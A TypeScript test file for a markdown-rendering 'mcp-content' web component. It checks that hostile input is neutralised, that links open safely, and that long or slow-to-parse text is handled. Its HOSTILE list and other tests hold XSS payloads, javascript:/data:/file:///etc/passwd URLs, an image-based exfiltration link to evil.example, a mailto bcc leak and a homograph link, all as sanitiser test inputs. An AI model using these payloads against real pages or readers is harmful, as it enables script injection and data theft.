import { assert } from 'chai';
import '../../../packages/elements/src/content/define.ts';
import type { McpContentElement } from '../../../packages/elements/src/content/content.ts';
import { fastestOf, until } from './page.ts';

async function show(text: string): Promise<HTMLElement> {
  const element: McpContentElement = document.createElement('mcp-content');
  element.markdown = true;
  element.content = { type: 'text', text };
  document.body.append(element);
  await element.updateComplete;
  return until(() => element.shadowRoot?.querySelector<HTMLElement>('.markdown, .text'), 'the text');
}

const words = (shown: HTMLElement): string => shown.textContent.replace(/\s+/g, ' ').trim();
const tags = (shown: HTMLElement): string[] =>
  [...new Set([...shown.querySelectorAll('*')].map(({ localName }) => localName))].sort();

/** What could load something, run something or lead somewhere. */
const ACTIVE = [
  'a',
  'img',
  'image',
  'svg',
  'script',
  'iframe',
  'object',
  'embed',
  'style',
  'link',
  'form',
  'input',
  'video',
  'audio',
  'base',
  'meta',
  'math',
  'template',
  'details',
];

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'a <img src="https://evil.example/?q=1"> b',
  '<svg onload=alert(1)><style>*{display:none}</style>',
  '<iframe src="https://evil.example"></iframe>',
  '![steal](https://evil.example/collect?data=secret)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](javascript:alert(1))',
  '[![nested](https://evil.example/a.png)](https://evil.example)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://example.com/1)',
  '[x](//evil.example)',
  '[x](/relative)',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '[a](https://ok.example "onmouseover=alert(1)")',
  '| a |\n| - |\n| <script>alert(1)</script> |',
  '```html\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '- [ ] <input autofocus onfocus=alert(1)>',
  '> <details open ontoggle=alert(1)>',
  '# <a href="javascript:alert(1)">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '${alert(1)} {{constructor.constructor("alert(1)")()}}',
];

describe('Markdown in <mcp-content>', () => {
  afterEach(() => document.body.replaceChildren());

  it('is rendered: headings, lists, tables, code, emphasis', async () => {
    const shown = await show(
      '# Title\n\nSome **bold** and *slanted* `code`, 3 &lt; 4 &amp; 5.\n\n1. one\n2. two\n\n- [x] done\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nlet x = 1 < 2;\n```\n\n> quoted',
    );
    assert.includeMembers(tags(shown), [
      'strong',
      'em',
      'code',
      'ol',
      'ul',
      'li',
      'table',
      'th',
      'td',
      'pre',
      'blockquote',
    ]);
    assert.include(words(shown), 'Some bold and slanted code, 3 < 4 & 5.');
    assert.equal(shown.querySelector('[role=heading]')?.textContent.trim(), 'Title');
    assert.equal(shown.querySelector('pre')?.textContent, 'let x = 1 < 2;');
  });

  it('turns hostile text into nothing that loads, runs or misleads [RE-11]', async () => {
    const opened: string[] = [];
    const open = window.open;
    window.open = (url) => (opened.push(String(url)), null);
    const before = performance.getEntriesByType('resource').length;
    try {
      for (const text of HOSTILE) {
        const shown = await show(text);
        assert.deepEqual(
          tags(shown).filter((tag) => ACTIVE.includes(tag)),
          [],
          text,
        );
        for (const element of shown.querySelectorAll('*'))
          assert.deepEqual(
            element
              .getAttributeNames()
              .filter((name) => name.startsWith('on') || name === 'href' || name === 'src' || name === 'style'),
            [],
            text,
          );
        for (const button of shown.querySelectorAll('button')) button.click();
        document.body.replaceChildren();
      }
    } finally {
      window.open = open;
    }
    assert.deepEqual([...new Set(opened.map((url) => new URL(url).protocol))], ['https:']);
    assert.isEmpty(
      performance
        .getEntriesByType('resource')
        .slice(before)
        .map(({ name }) => name)
        .filter((name) => name.includes('evil')),
    );
  });

  it('shows HTML as text, and where each link and image would lead', async () => {
    const shown = await show(
      '<b>raw</b> [harmless](https://evil.example/login) ![chart](https://cdn.example/x.png) [mail](mailto:ada@example.com) [IDN](https://аpple.com)',
    );
    assert.include(words(shown), '<b>raw</b>');
    assert.deepEqual(
      [...shown.querySelectorAll('.place')].map(({ textContent }) => textContent),
      ['evil.example', 'ada@example.com', 'xn--pple-43d.com'],
    );
    assert.include(words(shown), 'Image “chart” from cdn.example, not loaded');
  });

  it('opens a link only when it is clicked, in a window that knows nothing of this one', async () => {
    const opened: unknown[][] = [];
    const open = window.open;
    window.open = (...args) => (opened.push(args), null);
    try {
      const shown = await show('[there](https://example.com/a)');
      assert.isEmpty(opened);
      shown.querySelector('button')?.click();
    } finally {
      window.open = open;
    }
    assert.deepEqual(opened, [['https://example.com/a', '_blank', 'noopener,noreferrer']]);
  });

  it('leads where the target says, whatever addresses its label has, and only there', async () => {
    const opened: unknown[] = [];
    const open = window.open;
    window.open = (url) => (opened.push(url), null);
    try {
      const shown = await show(
        [
          '[http://bank.example](http://one.example/)',
          '[http://a text](https://two.example/)',
          '[www.bank.example](https://three.example/)',
          '[**<https://bank.example>** ada@bank.example](https://four.example/)',
          '[https://bank.example][label]',
          '[https://six.example/]',
          '![https://bank.example](https://seven.example/a.png)',
          '\n\n[label]: https://five.example/',
        ].join(' '),
      );
      assert.deepEqual(
        [...shown.querySelectorAll('.place')].map(({ textContent }) => textContent),
        ['one.example', 'two.example', 'three.example', 'four.example', 'five.example', 'six.example'],
      );
      assert.isEmpty(shown.querySelectorAll('button button'));
      for (const button of shown.querySelectorAll('button')) button.click();
      assert.deepEqual(opened, [
        'http://one.example/',
        'https://two.example/',
        'https://three.example/',
        'https://four.example/',
        'https://five.example/',
        'https://six.example/',
      ]);
      assert.include(words(shown), 'Image “https://bank.example” from seven.example, not loaded');
    } finally {
      window.open = open;
    }
  });

  for (const text of [
    '> '.repeat(5_000),
    '- '.repeat(5_000),
    '['.repeat(20_000),
    '*a '.repeat(9_000),
    `${'`'.repeat(9_999)} x`,
    '[a]('.repeat(6_000),
    '|'.repeat(29_000),
    '<'.repeat(29_000),
    '!['.repeat(14_000),
    '_'.repeat(29_000),
    'x'.repeat(1_000_000),
    '~~a'.repeat(9_000),
    '\\'.repeat(29_000),
    `${'a@'.repeat(14_000)}`,
    'http://'.repeat(4_000),
    'a_'.repeat(14_000),
  ]) {
    it(`gives up on text that is made to take long, and shows it plain: ${text.slice(0, 8)} …`, async () => {
      let shown: HTMLElement | undefined;
      const took = await fastestOf(async () => {
        document.body.replaceChildren();
        shown = await show(text);
      }, 5_000);
      assert.isBelow(took, 5_000);
      const end = [...(shown?.querySelectorAll('.piece') ?? [])].at(-1)?.textContent.trim().slice(-4);
      assert.include(text, end ?? 'nothing');
    });
  }

  it('leaves a paragraph plain that is too long to be one, and renders the others', async () => {
    const shown = await show(`**${'no '.repeat(2_000)}**\n\n**yes**`);
    assert.equal(shown.querySelectorAll('strong').length, 1);
    assert.include(words(shown), 'no no no');
  });

  it('renders an answer of a model as a whole, however long, and keeps what belongs together', async () => {
    const part = (n: number): string =>
      `## Part ${n}\n\nSome **bold** words, \`code\` and a [link](https://example.com/${n}).\n\n${n}. one\n${n + 1}. two\n   - inner\n\n| a | b |\n|---|---|\n| ${n} | |\n\n~~~js\nlet x = ${n};\n\n# no heading\n~~~\n\n`;
    const text = Array.from({ length: 260 }, (_none, index) => part(index + 1)).join('');
    assert.isAbove(text.length, 40_000);
    const shown = await show(text);
    assert.equal(shown.querySelectorAll('[role=heading]').length, 260);
    assert.equal(shown.querySelectorAll('pre').length, 260);
    assert.equal(shown.querySelectorAll('td').length, 520);
    assert.equal(shown.querySelectorAll('.place').length, 260);
    assert.notInclude(shown.textContent, '**');
    assert.equal(shown.querySelectorAll('.rest').length, 0);
  });

  it('shows the end of a very long text when the user asks for it', async () => {
    const shown = await show(`${'Some **words**.\n\n'.repeat(5_000)}The end.`);
    assert.notInclude(shown.textContent, 'The end.');
    const more = shown.querySelector<HTMLElement>('button.link');
    assert.isNotNull(more);
    more.focus();
    while (more.textContent !== 'Show less') {
      assert.equal(document.querySelector('mcp-content')?.shadowRoot?.activeElement, more);
      more.click();
      await document.querySelector('mcp-content')?.updateComplete;
    }
    assert.include(shown.textContent, 'The end.');
    assert.equal(shown.querySelectorAll('strong').length, 5_000);
    assert.equal(document.querySelector('mcp-content')?.shadowRoot?.activeElement, more);
    more.click();
    await document.querySelector('mcp-content')?.updateComplete;
    assert.notInclude(shown.textContent, 'The end.');
    assert.include(more.textContent, 'more characters');
  });

  it('keeps what is drawn while a text grows, and draws only its end again', async () => {
    const text = '# One\n\nSome *words*.\n\n'.repeat(300);
    const shown = await show(text);
    const first = shown.querySelector('em');
    const element = document.querySelector('mcp-content');
    assert.isNotNull(element);
    element.content = { type: 'text', text: `${text}**more**` };
    await element.updateComplete;
    assert.equal(shown.querySelector('em'), first);
    assert.equal(shown.querySelector('strong')?.textContent, 'more');
  });

  it('keeps what is drawn while a text grows faster than it is drawn', async () => {
    const text = '# One\n\nSome *words*.\n\n'.repeat(600);
    const shown = await show(text);
    const drawn = [...shown.querySelectorAll('em')];
    const element = document.querySelector('mcp-content');
    assert.isNotNull(element);
    let fewest = Infinity;
    const watch = new MutationObserver(() => (fewest = Math.min(fewest, shown.querySelectorAll('em').length)));
    watch.observe(shown, { childList: true, subtree: true });
    for (const end of ['**mo', '**more', '**more**']) {
      element.content = { type: 'text', text: text + end };
      // Not `updateComplete`, which waits until it is drawn.
      await Promise.resolve().then(() => undefined);
    }
    await element.updateComplete;
    watch.disconnect();
    assert.equal(shown.querySelector('strong')?.textContent, 'more');
    assert.equal(fewest, drawn.length);
    assert.equal(shown.querySelector('em'), drawn[0]);
  });

  it('shows nothing more of a text that became empty', async () => {
    const shown = await show('**one**');
    const element = document.querySelector('mcp-content');
    assert.isNotNull(element);
    element.content = { type: 'text', text: '' };
    await element.updateComplete;
    assert.isFalse(shown.isConnected);
  });

  it('follows the target of a label while it is written, and moves nothing else', async () => {
    const text = `${'Some *words*.\n\n'.repeat(300)}See [docs].\n\n${'Some *words*.\n\n'.repeat(300)}`;
    const shown = await show(text);
    const drawn = [...shown.querySelectorAll('em')];
    const element = document.querySelector('mcp-content');
    assert.isNotNull(element);
    let fewest = drawn.length;
    const watch = new MutationObserver(() => (fewest = Math.min(fewest, shown.querySelectorAll('em').length)));
    watch.observe(shown, { childList: true, subtree: true });
    const opened: unknown[] = [];
    const open = window.open;
    window.open = (url) => (opened.push(url), null);
    try {
      for (const end of ['https://example.co', 'https://example.com/there']) {
        element.content = { type: 'text', text: `${text}[docs]: ${end}` };
        await element.updateComplete;
        shown.querySelector('button')?.click();
        assert.equal(shown.querySelector('.place')?.textContent, new URL(end).host);
      }
    } finally {
      window.open = open;
      watch.disconnect();
    }
    assert.deepEqual(opened, ['https://example.co/', 'https://example.com/there']);
    assert.equal(fewest, drawn.length);
    assert.isTrue(drawn.at(-1)?.isConnected);
  });

  it('cuts long code between lines, and goes on with code', async () => {
    const shown = await show(`\`\`\`js\n${'let a = 1;\n'.repeat(3_000)}\`\`\`\n\n**after**`);
    assert.equal(shown.querySelectorAll('p').length, 1);
    assert.equal(shown.querySelector('p')?.textContent, 'after');
    assert.equal(
      [...shown.querySelectorAll('pre')].map(({ textContent }) => textContent).join('\n'),
      'let a = 1;\n'.repeat(3_000).trim(),
    );
  });

  it('shows a table in a quote, with the rows that it has', async () => {
    const shown = await show('> | a | b |\n> |---|---|\n> | 1 | 2 |\n> | 3 | |');
    assert.equal(shown.querySelectorAll('blockquote tr').length, 3);
    assert.equal(shown.querySelector('blockquote tbody')?.textContent, '123');
  });

  it('begins no table below one that has ended', async () => {
    const head = '| a | b |\n|---|---|\n| 1 | 2 |\n';
    for (const between of ['# heading', '- item', '> quote', '```\ncode\n```']) {
      const shown = await show(`${head}${between}\n${'words\n'.repeat(1_200)}`);
      assert.equal(shown.querySelectorAll('table').length, 1, between);
    }
    const code = await show(`\`\`\`\n${head}\`\`\`\n${'words\n'.repeat(1_200)}`);
    assert.equal(code.querySelectorAll('table').length, 0);
  });

  it('shows the named characters that people write, and whole characters only', async () => {
    const shown = await show(
      `one&mdash;two&hellip; &copy; &rarr; &unknown; ![${'x'.repeat(199)}😀](https://cdn.example/x.png)\n\n- [x] one\n- [ ] two`,
    );
    assert.include(words(shown), 'one—two… © → &unknown;');
    assert.isTrue(shown.textContent.isWellFormed());
    assert.deepEqual(
      [...shown.querySelectorAll('[role=img]')].map(({ ariaLabel }) => ariaLabel),
      ['done', 'to do'],
    );
  });

  it('cuts a long table between rows, and repeats its head', async () => {
    const shown = await show(`| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(2_000)}\n# after`);
    const tables = [...shown.querySelectorAll('table')];
    assert.isAbove(tables.length, 1);
    for (const table of tables) assert.equal(table.querySelector('thead')?.textContent, 'ab');
    assert.equal(shown.querySelectorAll('td').length, 4_000);
    assert.equal(shown.querySelectorAll('p').length, 1);
  });

  it('leaves plain, in its place, what has more parts than can be drawn at once', async () => {
    const shown = await show(`**before**\n\n|a|b|c|d|\n|-|-|-|-|\n${'|1|2|3|4|\n'.repeat(400)}\n**after**`);
    assert.include(shown.querySelector('.rest')?.textContent ?? '', '|1|2|3|4|');
    assert.deepEqual(
      [...shown.querySelectorAll('strong')].map(({ textContent }) => textContent),
      ['before', 'after'],
    );
  });

  it('resolves links by label, wherever the text says where they lead', async () => {
    const shown = await show(
      'See [the docs][1], [this] and [nothing].\n\n[1]: https://one.example\n[this]: https://two.example',
    );
    assert.deepEqual(
      [...shown.querySelectorAll('.place')].map(({ textContent }) => textContent),
      ['one.example', 'two.example'],
    );
    assert.include(words(shown), 'See the docs');
    assert.include(words(shown), '[nothing]');
    assert.notInclude(words(shown), 'https:');
  });

  it('opens a mail with the recipients that are shown, and nothing else that the link says', async () => {
    const opened: unknown[] = [];
    const open = window.open;
    window.open = (url) => (opened.push(url), null);
    try {
      const shown = await show(
        '[a](mailto:a@b.example?bcc=spy@evil.example&body=secret) [two](mailto:a@b.example,c@d.example?subject=x) [c](mailto:a@b.example%3Fbcc=spy@evil.example) [d](mailto:?to=spy@evil.example) <e@f.example>',
      );
      assert.deepEqual(
        [...shown.querySelectorAll('.place')].map(({ textContent }) => textContent),
        ['a@b.example', 'a@b.example, c@d.example', 'e@f.example'],
      );
      for (const button of shown.querySelectorAll('button')) button.click();
    } finally {
      window.open = open;
    }
    assert.deepEqual(opened, ['mailto:a@b.example', 'mailto:a@b.example,c@d.example', 'mailto:e@f.example']);
  });

  it('is opt-in: without it, text stays text', async () => {
    const element = document.createElement('mcp-content');
    element.content = { type: 'text', text: '**no**' };
    document.body.append(element);
    await element.updateComplete;
    assert.equal(element.shadowRoot?.querySelector('.text')?.textContent, '**no**');
  });
});
